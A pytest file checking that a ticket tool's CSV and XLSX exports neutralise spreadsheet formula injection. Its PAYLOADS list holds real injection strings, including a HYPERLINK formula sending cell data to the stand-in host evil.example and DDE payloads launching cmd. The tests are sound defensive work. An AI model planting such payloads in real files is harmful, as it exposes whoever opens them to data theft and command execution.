"""No formula reaches a spreadsheet from user text: known CSV-injection payloads through
`export -f csv|xlsx` and `list --format csv`, read back with openpyxl and the csv module."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from ticketdesk.rules.text import FORMULA_START
from ticketdesk.store import NewTicket, Store

from .test_cli import ok

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
# subjects are single-line fields and refuse tab/CR (checked in the unit test below)
SUBJECTS = [p for p in PAYLOADS if not p.startswith(("\t", "\r"))]


@pytest.fixture
def hostile(store: Store) -> list[str]:
    numbers = []
    for i, payload in enumerate(SUBJECTS):
        numbers.append(store.create_ticket(NewTicket(subject=payload, customer=f"c{i}@example.com", team="support")))
    return numbers


def _unsafe(value: str) -> bool:
    return value.startswith(FORMULA_START)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_csv_export_and_list_neutralise_every_payload(db_url: str, hostile: list[str], tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    ok(db_url, "export", "-f", "csv", "-o", str(path))
    listed = ok(db_url, "list", "--format", "csv", "--limit", "100")
    for text in (path.read_text(encoding="utf-8"), listed):
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == len(SUBJECTS)
        subjects = {r["subject"] for r in rows}
        assert subjects == {"'" + s for s in SUBJECTS}
        for row in rows:
            assert not any(_unsafe(v) for v in row.values() if v), row


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_xlsx_export_has_no_formula_cell_and_numbers_stay_numbers(
    db_url: str, hostile: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "t.xlsx"
    ok(db_url, "export", "-o", str(path))
    ws = openpyxl.load_workbook(path)["tickets"]
    headers = [c.value for c in ws[1]]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    assert not any(isinstance(c.value, str) and _unsafe(c.value) for c in cells)
    subjects = {row[headers.index("subject")].value for row in ws.iter_rows(min_row=2)}
    assert subjects == {"'" + s for s in SUBJECTS}
    reopen = [row[headers.index("reopen_count")] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and c.value == 0 for c in reopen)


def test_spreadsheet_text_prefixes_every_formula_start() -> None:
    from ticketdesk.rules.text import spreadsheet_text

    for payload in PAYLOADS:
        assert spreadsheet_text(payload) == "'" + payload
    assert spreadsheet_text("plain -1") == "plain -1"
